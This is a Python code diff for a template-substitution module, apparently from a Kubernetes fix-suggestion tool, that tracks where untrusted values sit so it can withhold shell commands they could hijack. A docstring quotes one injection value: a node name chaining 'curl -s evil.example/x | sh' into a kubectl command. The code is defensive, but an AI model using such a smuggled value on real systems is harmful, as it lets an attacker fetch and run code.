@@ -15,7 +15,7 @@ from typing import Any
 from .errors import EvaluationError, UnknownName
 from .model import PLACEHOLDER
 from .operators import show
-from .shell import comment_at, commented, trusted, untrusted_characters, written
+from .shell import Span, Tainted, misplaced, trusted, untrusted_characters, written
 
 #: A template as pieces: literal text, or (name, members, the placeholder as written).
 Piece = str | tuple[str, tuple[str, ...], str]
@@ -46,22 +46,25 @@ def substitute(template: str, scope: Any, extra: Mapping[str, Any]) -> str:
 
 def formatted(template: str, scope: Any, extra: Mapping[str, Any]) -> str:
     """``substitute``, for a ``format`` reference: ``rules.shell.Written`` where every value in it is trusted, so that
-    a fix may hold the text it makes (``$(kubectl get ...)``, a quoted patch) as the pack wrote it."""
-    untrusted: list[tuple[str, Any]] = []
-    text = _substituted(template, scope, extra, untrusted)
-    return text if untrusted else written(text)
+    a fix may hold the text it makes (``$(kubectl get ...)``, a quoted patch) as the pack wrote it; else
+    ``rules.shell.Tainted``, which says where its untrusted values stand."""
+    spans: list[Span] = []
+    text = _substituted(template, scope, extra, spans)
+    return Tainted(text, tuple(spans)) if spans else written(text)
 
 
 def command(template: str, scope: Any, extra: Mapping[str, Any]) -> str:
-    """``substitute``, for a fix: where a value in it is not trusted (``rules.shell``: a value of the dump that a shell
-    would read as more than one plain word), no command is written, only why (trial 180: a Node named
-    ``gpu-1 && curl -s evil.example/x | sh #`` made ``kubectl label node {name} ...`` run the curl)."""
-    untrusted: list[tuple[str, Any]] = []
-    text = _substituted(template, scope, extra, untrusted)
-    if not untrusted:
+    """``substitute``, for a fix: where a value of the dump that is more than one plain word stands where a shell
+    could run it (``rules.shell.misplaced``: in a command, or before the comment of a fix that is one), no command is
+    written, only why (trial 180: a Node named ``gpu-1 && curl -s evil.example/x | sh #`` made ``kubectl label node
+    {name} ...`` run the curl). In the words around the commands it may stand (a scheduler's message)."""
+    spans: list[Span] = []
+    text = _substituted(template, scope, extra, spans)
+    bad = misplaced(text, spans) if spans else []
+    if not bad:
         return text
-    names = ", ".join(dict.fromkeys(name for name, _ in untrusted))
-    found = dict.fromkeys(c for _, value in untrusted for c in untrusted_characters(value))
+    names = ", ".join(dict.fromkeys(name for _, _, name in bad))
+    found = dict.fromkeys(c for a, b, _ in bad for c in untrusted_characters(text[a:b]))
     chars = " ".join("a blank" if c == " " else c if c.isprintable() else f"U+{ord(c):04X}" for c in found)
     return (
         f"No fix command is written for this object: what it would name ({names}) holds characters a shell reads as"
@@ -70,18 +73,21 @@ def command(template: str, scope: Any, extra: Mapping[str, Any]) -> str:
     )
 
 
-def _substituted(template: str, scope: Any, extra: Mapping[str, Any], untrusted: list[tuple[str, Any]] | None) -> str:
-    """The text of ``template`` in ``scope``; with ``untrusted`` a list, each placeholder whose value is not
-    ``rules.shell.trusted`` is added to it (its name and value)."""
+def _substituted(template: str, scope: Any, extra: Mapping[str, Any], spans: list[Span] | None) -> str:
+    """The text of ``template`` in ``scope``; with ``spans`` a list, where each value that is not
+    ``rules.shell.trusted`` stands in it is added to it (from a ``Tainted`` value, where its own untrusted values
+    stand)."""
     parts = pieces(template)
     if len(parts) == 1 and isinstance(parts[0], str):
         return parts[0]
     if extra:
         scope = scope.child(scope.root, dict(extra))
     out = []
+    at = 0
     for piece in parts:
         if isinstance(piece, str):
             out.append(piece)
+            at += len(piece)
             continue
         name, members, written_as = piece
         if name in extra:
@@ -91,16 +97,24 @@ def _substituted(template: str, scope: Any, extra: Mapping[str, Any], untrusted:
                 value = scope.var(name)
             except UnknownName:
                 out.append(written_as)
+                at += len(written_as)
                 continue
             except EvaluationError as exc:
                 # trial 167: a var that could not be computed was left as "{name}", read as a template's slip
-                out.append(f"<{name}: could not evaluate: {exc}>")
+                said = f"<{name}: could not evaluate: {exc}>"
+                out.append(said)
+                at += len(said)
                 continue
         for member in members:
             value = lookup(value, member)
-        if untrusted is not None and not trusted(value) and not (commented(value) and comment_at("".join(out)) >= 0):
-            untrusted.append((name, value))  # (after the fix's " # ", a value only has to stay in the comment)
-        out.append(show(value))
+        text = show(value)
+        if spans is not None:
+            if isinstance(value, Tainted):
+                spans.extend((at + a, at + b, inner) for a, b, inner in value.spans)
+            elif not trusted(value):
+                spans.append((at, at + len(text), name))
+        out.append(text)
+        at += len(text)
     return "".join(out)
 
 
